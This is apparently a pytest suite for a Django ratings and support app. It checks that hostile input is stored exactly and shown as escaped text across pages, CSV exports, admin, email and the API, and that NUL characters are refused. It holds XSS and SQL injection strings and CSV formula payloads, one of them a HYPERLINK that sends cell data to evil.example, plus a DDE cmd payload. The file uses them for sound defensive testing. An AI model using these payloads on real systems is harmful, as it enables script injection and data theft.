"""Hostile input goes through unharmed and is shown as text (issue 6, item 4).

Comments and names holding markup, SQL-looking text, template syntax, odd Unicode (a
right-to-left override, zero-width joiners, combining marks, emoji with skin tones), very long
text and the NUL character, made through the real services and the real forms, then read back
through every surface that shows them: the customer's rating page and Messenger view (A1, A7),
the report pages (R2, R3, R4), the CSV exports (R5, with spreadsheet formulas neutralised), the
admin (the inbox's conversation page, the rating admin, the people lists), the survey email
(D1) and the REST API.

"Shown as text" means: escaped the way Django escapes (the raw markup never appears in the
HTML), and read back whole by an HTML parser as the page's text. "Unharmed" means stored and
returned exactly (CSV and JSON equal to what was typed). NUL, which PostgreSQL cannot store in
text, is a 400 / ValidationError with words on both databases, never a 500.
"""

from __future__ import annotations

import re
from datetime import timedelta
from html import escape as html_escape
from html.parser import HTMLParser

import pytest
import time_machine
from django.core import mail
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils.html import escape

from conversations import services
from conversations.models import Channel, Contact, Conversation, Part, Teammate
from ratings.models import Rating, RatingEvent, RatingRequest
from ratings.services import MAX_COMMENT_LENGTH, rating_comment, rating_submit
from ratings.tokens import messenger_token
from reports.exports import FORMULA_STARTS
from tests.factories import ContactFactory, TeammateFactory, start_conversation
from tests.report_helpers import DAY, MARCH, csv_rows, rate, requested, token_for

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "attribute-break": '"><b>bold</b><"',
    "sql": "'; DROP TABLE ratings_rating; --",
    "entities": "&lt;b&gt; &amp;amp; &#60;script&#62;",
    "template": "{{ request.user }} {% csrf_token %} %s %(x)s {0}",
    "rtl-override": "Refund \u202egnp.exe\u202c done",
    "zero-width": "Z\u200bero\u200c width\u200d join 👩\u200d💻 👨\u200d👩\u200d👧",
    "combining": "Cafe\u0301 Z\u0334\u031b\u0328a\u0338l\u0337g\u0336o\u0335",
    "emoji-skin-tones": "Thanks 👍🏿 👋🏻 🤌🏽 🧑🏾\u200d🚀",
    "closing-tags": "back\\slash `tick` 'single' </textarea></title></script>",
}
IDS = list(HOSTILE)
TEXTS = list(HOSTILE.values())
MARKUP = set("<>&\"'")
NUL = "Ann\x00Smith"


# --- helpers ------------------------------------------------------------------------------------


class _Text(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.chunks: list[str] = []

    def handle_data(self, data):
        self.chunks.append(data)


def page_text(html: str) -> str:
    """Everything an HTML parser reads as text (entities decoded), tags and attributes left out."""
    parser = _Text()
    parser.feed(html)
    parser.close()
    return "".join(parser.chunks)


def assert_shown_as_text(html: str, text: str) -> None:
    """`text` is on the page as text: escaped as Django escapes, never as raw markup, and read
    back whole by an HTML parser (so no part of it was taken for a tag)."""
    assert escape(text) in html, f"{text!r} is not on the page, escaped"
    if MARKUP & set(text):
        assert text not in html, f"{text!r} is on the page unescaped"
    assert text in page_text(html), f"{text!r} does not read back as the page's text"


def _html(response, status=200) -> str:
    assert response.status_code == status, response.status_code
    return response.content.decode()


def _counts() -> dict:
    models = (Contact, Teammate, Conversation, Part, Rating, RatingEvent, RatingRequest)
    return {model.__name__: model.objects.count() for model in models}


def _rate_url(request: RatingRequest, name: str = "ratings:rate") -> str:
    return reverse(name, args=[token_for(request)])


@pytest.fixture
def boss(db):
    """A superuser with a teammate profile: reads every admin page and acts in the inbox."""
    boss = TeammateFactory(name="Bo Boss", email="bo@example.com")
    boss.user.is_superuser = True
    boss.user.save(update_fields=["is_superuser"])
    return boss


@pytest.fixture
def admin_client_(client, boss):
    client.force_login(boss.user)
    return client


@pytest.fixture
def api(api_login, api_admin):
    return api_login(api_admin.user)


# --- the customer's pages (A1, A7) --------------------------------------------------------------


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_A1_hostile_comment_and_names_on_the_rating_page(db, client, capture, text):
    """The customer rates and comments through the forms; the comment is kept exactly and the
    page shows it, the teammate's name and the reaction as text."""
    teammate = TeammateFactory(name=text)
    request = requested(capture, teammate, at=DAY, contact=ContactFactory(name=text))
    assert client.post(_rate_url(request), {"value": "2"}).status_code == 303
    response = client.post(_rate_url(request, "ratings:rate_comment"), {"comment": text})
    assert response.status_code == 303
    rating = Rating.objects.get(request=request)
    assert rating.comment == text
    assert rating.history.get(kind="commented").comment == text
    html = _html(client.get(_rate_url(request)))
    assert_shown_as_text(html, text)  # the comment and the teammate's name
    assert html.count(escape(text)) >= 2


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_A1_hostile_messages_and_names_in_the_messenger_view(db, client, text):
    contact = ContactFactory(name=text)
    teammate = TeammateFactory(name=text)
    conversation = start_conversation(
        contacts=[contact], started_by=contact, body=text, subject=text
    )
    services.conversation_reply(conversation=conversation, author=teammate, body=text)
    html = _html(
        client.get(reverse("ratings:messenger", args=[messenger_token(contact_id=contact.pk)]))
    )
    assert_shown_as_text(html, text)
    # The contact's name, the subject, two messages and the teammate's name.
    assert html.count(escape(text)) >= 5


def test_A1_a_comment_of_exactly_5000_characters_is_kept_whole(client, capture, teammate):
    request = requested(capture, teammate, at=DAY)
    client.post(_rate_url(request), {"value": "1"})
    # Every kind of trouble at once, cut to the maximum (code points, not bytes).
    comment = ("".join(TEXTS) * 20)[:MAX_COMMENT_LENGTH].strip()
    comment += "x" * (MAX_COMMENT_LENGTH - len(comment))
    assert len(comment) == MAX_COMMENT_LENGTH
    response = client.post(_rate_url(request, "ratings:rate_comment"), {"comment": comment})
    assert response.status_code == 303
    assert Rating.objects.get(request=request).comment == comment
    assert escape(comment).replace("\n", "<br>") in _html(client.get(_rate_url(request)))


def test_A1_5000_emoji_with_skin_tones_are_5000_characters(capture, teammate):
    """The limit counts code points: 2,500 thumbs with a skin tone (two code points each, eight
    bytes in UTF-8) are exactly the maximum; one more character is refused."""
    request = requested(capture, teammate, at=DAY)
    token = token_for(request)
    rating_submit(token=token, value=4)
    with pytest.raises(ValidationError) as refused:
        rating_comment(token=token, comment="👍🏽" * 2500 + "!")
    assert refused.value.code == "too_long"
    rating = rating_comment(token=token, comment="👍🏽" * 2500)
    rating.refresh_from_db()
    assert rating.comment == "👍🏽" * 2500


def test_A7_a_comment_over_5000_characters_is_refused_in_words_and_echoed_escaped(
    client, capture, teammate
):
    """One character too many: a 400 that says why, the typed text given back in the form
    (escaped: it cannot close the textarea), nothing written."""
    request = requested(capture, teammate, at=DAY)
    client.post(_rate_url(request), {"value": "1"})
    before = _counts()
    comment = ("</textarea><script>alert(1)</script>" * 200)[: MAX_COMMENT_LENGTH + 1]
    response = client.post(_rate_url(request, "ratings:rate_comment"), {"comment": comment})
    html = _html(response, 400)
    assert f"The comment is longer than {MAX_COMMENT_LENGTH} characters." in html
    assert "</textarea><script>" not in html
    assert _counts() == before
    rating = Rating.objects.get(request=request)
    assert (rating.comment, rating.commented_at) == ("", None)


def test_A7_a_comment_with_a_NUL_character_is_a_400_in_words(client, capture, teammate):
    """PostgreSQL cannot store NUL in text: the form refuses it (400), and so does the service
    behind it (a ValidationError, not a database error) on every database."""
    request = requested(capture, teammate, at=DAY)
    client.post(_rate_url(request), {"value": "2"})
    before = _counts()
    response = client.post(_rate_url(request, "ratings:rate_comment"), {"comment": NUL})
    assert "Null characters are not allowed." in _html(response, 400)
    with pytest.raises(ValidationError) as refused:
        rating_comment(token=token_for(request), comment=NUL)
    assert refused.value.code == "null_character"
    assert "NUL" in refused.value.messages[0]
    assert _counts() == before
    assert Rating.objects.get(request=request).commented_at is None


# --- the report pages (R2, R3, R4) --------------------------------------------------------------


@pytest.fixture
def hostile_ratings(capture):
    """One rating per hostile text: its teammate, its contact and its comment all carry it.
    Rated 5, so each also shows among its teammate's achievements (R4)."""
    made = []
    for i, text in enumerate(TEXTS):
        teammate = TeammateFactory(name=text, email=f"hostile{i}@example.com")
        contact = ContactFactory(name=text, email=f"hostile-customer{i}@example.com")
        rating = rate(
            capture,
            teammate,
            5,
            at=DAY + timedelta(minutes=i),
            comment=text,
            contact=contact,
            subject=text,
        )
        made.append((text, teammate, rating))
    return made


def test_R3_hostile_comments_and_names_on_the_comments_page(client_, hostile_ratings):
    html = _html(client_.get(f"{reverse('reports:comments')}?{MARCH}"))
    for text, _, rating in hostile_ratings:
        assert_shown_as_text(html, text)
        assert f'id="rating-{rating.pk}"' in html
        # The comment, the contact's name and "rated <teammate>", at least.
        assert html.count(escape(text)) >= 3


def test_R4_hostile_comments_on_each_teammates_achievements(client_, hostile_ratings):
    for text, teammate, rating in hostile_ratings:
        url = f"{reverse('reports:achievements')}?{MARCH}&teammate={teammate.pk}"
        html = _html(client_.get(url))
        assert_shown_as_text(html, text)
        assert f'id="rating-{rating.pk}"' in html


def test_R2_R1_hostile_teammate_names_on_the_teammates_and_summary_pages(client_, hostile_ratings):
    for name in ("reports:teammates", "reports:summary"):
        html = _html(client_.get(f"{reverse(name)}?{MARCH}"))
        for text, _, _ in hostile_ratings:
            assert_shown_as_text(html, text)


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_R3_hostile_filter_values_are_set_aside_or_echoed_as_text(client_, text):
    """Whatever is typed into the query string: a page (never a 500), and what it echoes back
    (the reason filter, the error messages) is text."""
    query = {"reason": text, "teammate": text, "from": text, "to": "2025-03-31"}
    html = _html(client_.get(reverse("reports:comments"), query))
    assert_shown_as_text(html, text)  # the reason, kept as a filter
    response = client_.get(reverse("reports:comments_csv"), query)
    assert response.status_code == 400  # the dates and the teammate are refused, in words
    assert response["Content-Type"].startswith("text/plain")


# --- CSV (R5) -----------------------------------------------------------------------------------


def test_R5_hostile_text_comes_back_exactly_in_the_comments_csv(client_, hostile_ratings):
    header, *rows = csv_rows(client_.get(f"{reverse('reports:comments_csv')}?{MARCH}"))
    column = {name: header.index(name) for name in ("Comment", "Teammate", "Contact")}
    by_id = {int(row[header.index("Conversation")]): row for row in rows}
    assert len(rows) == len(hostile_ratings)
    for text, _, rating in hostile_ratings:
        row = by_id[rating.conversation_id]
        assert [row[i] for i in column.values()] == [text, text, text]


def test_R5_hostile_teammate_names_come_back_exactly_in_the_teammates_csv(client_, hostile_ratings):
    header, *rows = csv_rows(client_.get(f"{reverse('reports:teammates_csv')}?{MARCH}"))
    names = {row[header.index("Teammate")] for row in rows}
    assert {text for text, _, _ in hostile_ratings} <= names


def test_R5_a_5000_character_comment_comes_back_whole_in_the_csv(client_, capture, teammate):
    comment = ('line one, "quoted";\nline two\t' + "é👍🏽" * 2000)[:MAX_COMMENT_LENGTH]
    rate(capture, teammate, 2, comment=comment)
    header, row = csv_rows(client_.get(f"{reverse('reports:comments_csv')}?{MARCH}"))
    assert row[header.index("Comment")] == comment


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_R5_formulas_are_neutralised_in_both_csvs(client_, capture, start):
    """A cell a spreadsheet would compute gets a leading quote (OWASP's CSV injection advice):
    the comment, the contact's and the teammate's names; the same text elsewhere in a cell, or
    after the first character, is left alone."""
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    teammate = TeammateFactory(name=f"{start}cmd|' /C calc'!A0")
    contact = ContactFactory(name=f"{start}SUM(1+1)*cmd", email="mal@example.com")
    rate(capture, teammate, 1, comment=formula, contact=contact)
    rate(capture, teammate, 2, comment=f"Fine {formula}", at=DAY + timedelta(minutes=1))
    header, *rows = csv_rows(client_.get(f"{reverse('reports:comments_csv')}?{MARCH}"))
    comments = {row[header.index("Comment")] for row in rows}
    assert comments == {"'" + formula, f"Fine {formula}"}
    row = next(row for row in rows if row[header.index("Comment")] == "'" + formula)
    assert row[header.index("Teammate")] == "'" + teammate.name
    assert row[header.index("Contact")] == "'" + contact.name
    header, *rows = csv_rows(client_.get(f"{reverse('reports:teammates_csv')}?{MARCH}"))
    assert "'" + teammate.name in {row[header.index("Teammate")] for row in rows}
    # Every formula start the exporter guards against (tab and CR too, which the services
    # strip from the ends of what they keep).
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


# --- the admin ----------------------------------------------------------------------------------


def _admin(model, view, *args) -> str:
    opts = model._meta
    return reverse(f"admin:{opts.app_label}_{opts.model_name}_{view}", args=args)


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_admin_conversation_page_shows_hostile_text_as_text(admin_client_, boss, capture, text):
    """The inbox: the subject, the contact's name, the thread (a reply typed in the admin's
    own form, a note) and the rating panel's comment and history, all as text."""
    contact = ContactFactory(name=text)
    rating = rate(capture, boss, 1, comment=text, contact=contact, subject=text)
    conversation = rating.conversation
    services.conversation_reopen(conversation=conversation, by=boss)
    response = admin_client_.post(
        _admin(Conversation, "act", conversation.pk, "reply"), {"body": text}
    )
    assert response.status_code == 302
    admin_client_.post(_admin(Conversation, "act", conversation.pk, "note"), {"body": text})
    bodies = list(
        conversation.parts.filter(kind__in=["reply", "note"]).values_list("body", flat=True)
    )
    assert bodies[-2:] == [text, text]
    html = _html(admin_client_.get(_admin(Conversation, "change", conversation.pk)))
    assert_shown_as_text(html, text)
    # The subject, the contact, the reply, the note, the comment and its history entry.
    assert html.count(escape(text)) >= 6


def test_admin_lists_and_rating_pages_show_hostile_text_as_text(admin_client_, hostile_ratings):
    pages = [
        _admin(Rating, "changelist"),
        _admin(Conversation, "changelist"),
        _admin(Contact, "changelist"),
        _admin(Teammate, "changelist"),
    ]
    pages += [_admin(Rating, "change", rating.pk) for _, _, rating in hostile_ratings]
    html = {page: _html(admin_client_.get(page)) for page in pages}
    for text, _, rating in hostile_ratings:
        for page in pages[:4]:
            assert_shown_as_text(html[page], text)
        assert_shown_as_text(html[_admin(Rating, "change", rating.pk)], text)


def test_admin_search_for_hostile_text_finds_it_and_echoes_it_as_text(
    admin_client_, hostile_ratings
):
    """A search is a parameter, never SQL: each text finds its own rating (the SQL-looking one
    too), is echoed as text, and the table is still there."""
    for text, _, rating in hostile_ratings:
        response = admin_client_.get(_admin(Rating, "changelist"), {"q": text})
        html = _html(response)
        assert list(response.context["cl"].result_list) == [rating], text
        assert_shown_as_text(html, text)
    assert Rating.objects.count() == len(hostile_ratings)


def test_admin_NUL_and_over_long_people_are_refused_in_words(admin_client_, conversation):
    before = _counts()
    act = _admin(Conversation, "act", conversation.pk, "reply")
    response = admin_client_.post(act, {"body": NUL}, follow=True)
    assert "Null characters are not allowed." in _html(response)
    response = admin_client_.post(
        _admin(Contact, "add"), {"role": "user", "name": NUL, "email": "nul@example.com"}
    )
    assert "Null characters are not allowed." in _html(response)
    response = admin_client_.post(
        _admin(Teammate, "add"), {"name": NUL, "email": "nul@example.com", "username": ""}
    )
    assert "Null characters are not allowed." in _html(response)
    # A long address and no username: the address would be the username, longer than the
    # column holds (a DataError, a 500 on PostgreSQL, before the service checked it).
    response = admin_client_.post(
        _admin(Teammate, "add"), {"name": "Long Mail", "email": _email(200), "username": ""}
    )
    assert "A username is at most 150 characters" in _html(response)
    response = admin_client_.post(
        _admin(Teammate, "add"), {"name": "Long Mail", "email": _email(300), "username": "lm"}
    )
    assert "An email address is at most 254 characters." in _html(response)
    assert _counts() == before


# --- the survey email (D1) ----------------------------------------------------------------------


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_D1_hostile_names_in_the_survey_email(db, capture, text):
    """The HTML part escapes the contact's and the teammate's names and the subject; the plain
    text part carries them as typed."""
    contact = ContactFactory(name=text)
    teammate = TeammateFactory(name=text)
    with time_machine.travel(DAY, tick=False):
        conversation = start_conversation(
            contacts=[contact], started_by=contact, body="Hi", subject=text, channel=Channel.EMAIL
        )
        services.conversation_reply(conversation=conversation, author=teammate, body="w" * 260)
        with capture(execute=True):
            services.conversation_close(conversation=conversation, by=teammate)
    (message,) = mail.outbox
    ((html, _),) = message.alternatives
    assert_shown_as_text(html, text)
    assert text in message.body
    assert text in message.subject


# --- the services: NUL and lengths, the same on SQLite and PostgreSQL ---------------------------


def _nul_calls(teammate, conversation, token):
    return {
        "contact name": lambda: services.contact_create(
            role="user", name=NUL, email="nul@example.com"
        ),
        "teammate name": lambda: services.teammate_create(name=NUL, email="nul@example.com"),
        "teammate username": lambda: services.teammate_create(
            name="Nul", email="nul@example.com", username="nul\x00"
        ),
        "first message": lambda: start_conversation(
            contacts=[conversation.contacts.get()], body=NUL
        ),
        "subject": lambda: start_conversation(
            contacts=[conversation.contacts.get()], body="Hi", subject=NUL
        ),
        "reply": lambda: services.conversation_reply(
            conversation=conversation, author=teammate, body=NUL
        ),
        "note": lambda: services.conversation_note(
            conversation=conversation, author=teammate, body=NUL
        ),
        "bot message": lambda: services.conversation_bot_message(
            conversation=conversation, body=NUL
        ),
        "comment": lambda: rating_comment(token=token, comment=NUL),
    }


NUL_CASES = list(_nul_calls(None, None, None))


@pytest.mark.parametrize("case", NUL_CASES)
def test_NUL_is_a_ValidationError_in_every_service_that_keeps_text(capture, teammate, case):
    """PostgreSQL refuses NUL in text with a DataError (a 500 in any page or API that called
    the service); SQLite would store it. Every service refuses it first, in words."""
    request = requested(capture, teammate, at=DAY)
    token = token_for(request)
    rating_submit(token=token, value=3)
    conversation = start_conversation(contacts=[request.contact], body="Hi")
    before = _counts()
    call = _nul_calls(teammate, conversation, token)[case]
    with pytest.raises(ValidationError) as refused:
        call()
    assert refused.value.code == "null_character"
    assert "NUL character" in refused.value.messages[0]
    assert _counts() == before


def _email(length: int) -> str:
    """A valid address of `length` characters (labels of at most 63)."""
    local = "a" * 64 + "@"
    rest = length - len(local) - len(".com")
    labels = ["d" * min(63, rest - 64 * i) for i in range((rest + 63) // 64)]
    return local + ".".join(labels) + ".com"


@pytest.mark.parametrize(
    ("make", "longest"),
    [
        (lambda n: services.contact_create(role="user", name="c" * n, email="c@example.com"), 200),
        (lambda n: services.teammate_create(name="t" * n, email="t@example.com"), 150),
        (
            lambda n: services.teammate_create(name="T", email="t@example.com", username="u" * n),
            150,
        ),
        (lambda n: services.teammate_create(name="T", email=_email(n), username="u"), 254),
        (
            lambda n: start_conversation(
                contacts=[Contact.objects.get(email="s@example.com")], body="Hi", subject="s" * n
            ),
            255,
        ),
    ],
    ids=["contact-name", "teammate-name", "username", "teammate-email", "subject"],
)
def test_names_longer_than_their_column_are_a_ValidationError(db, make, longest):
    """One character over what the column holds is refused in words (PostgreSQL would raise a
    DataError; SQLite would store it); the longest that fits is kept whole."""
    ContactFactory(email="s@example.com")
    before = _counts()
    with pytest.raises(ValidationError):
        make(longest + 1)
    assert _counts() == before
    made = make(longest)
    assert made.pk is not None


# --- the REST API ---------------------------------------------------------------------------------


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_api_contact_name_round_trip(api, text):
    response = api.post(
        "/api/v1/contacts/", {"role": "lead", "name": text, "email": "h@example.com"}, format="json"
    )
    assert response.status_code == 201, response.content
    assert response.json()["name"] == text
    contact_id = response.json()["id"]
    assert Contact.objects.get(pk=contact_id).name == text
    assert api.get(f"/api/v1/contacts/{contact_id}/").json()["name"] == text
    listed = api.get("/api/v1/contacts/", {"email": "h@example.com"}).json()
    assert [c["name"] for c in listed["results"]] == [text]


@pytest.mark.parametrize("text", TEXTS, ids=IDS)
def test_api_conversation_message_round_trip(api, contact, text):
    body = {"channel": "email", "contacts": [contact.pk], "body": text, "subject": text}
    response = api.post("/api/v1/conversations/", body, format="json")
    assert response.status_code == 201, response.content
    started = response.json()
    assert started["subject"] == text
    assert [part["body"] for part in started["parts"]] == [text]
    url = f"/api/v1/conversations/{started['id']}/"
    reply = api.post(f"{url}replies/", {"body": text}, format="json")
    assert reply.status_code == 201, reply.content
    assert reply.json()["body"] == text
    read = api.get(url).json()
    assert read["subject"] == text
    assert [part["body"] for part in read["parts"]] == [text, text]
    assert list(
        Part.objects.filter(conversation_id=started["id"]).values_list("body", flat=True)
    ) == [
        text,
        text,
    ]


def test_api_NUL_and_over_long_text_are_400s_naming_the_field(api, conversation):
    before = _counts()
    cases = [
        ("/api/v1/contacts/", {"role": "user", "name": NUL, "email": "n@example.com"}, "name"),
        (
            "/api/v1/contacts/",
            {"role": "user", "name": "n" * 201, "email": "n@example.com"},
            "name",
        ),
        (f"/api/v1/conversations/{conversation.pk}/replies/", {"body": NUL}, "body"),
        (f"/api/v1/conversations/{conversation.pk}/notes/", {"body": NUL}, "body"),
    ]
    for url, body, field in cases:
        response = api.post(url, body, format="json")
        assert response.status_code == 400, (url, body, response.content)
        assert list(response.json()["fields"]) == [field]
    assert _counts() == before


def test_api_answers_are_json_with_the_text_escaped_by_json_only(api, contact):
    """The JSON carries the text itself (no HTML escaping that would change it), and the
    response is JSON, so a browser never renders it as a page."""
    text = HOSTILE["script"]
    response = api.post(
        "/api/v1/conversations/",
        {"channel": "messenger", "contacts": [contact.pk], "body": text},
        format="json",
    )
    assert response["Content-Type"].startswith("application/json")
    assert re.search(r'"body":\s*"<script>alert\(1\)<\\?/script>"', response.content.decode())
    assert html_escape(text) not in response.content.decode()


@pytest.mark.parametrize(
    "address",
    [
        "/admin/ratings/rating/?comment__contains=%00",
        "/reports/comments/?reason=%00",
        "/api/v1/contacts/?email=a%00b",
        "/healthz?x%00=1",
    ],
)
def test_a_NUL_in_the_query_string_is_a_400_before_any_view(admin_client, address):
    response = admin_client.get(address)
    assert response.status_code == 400
    assert b"NUL character" in response.content
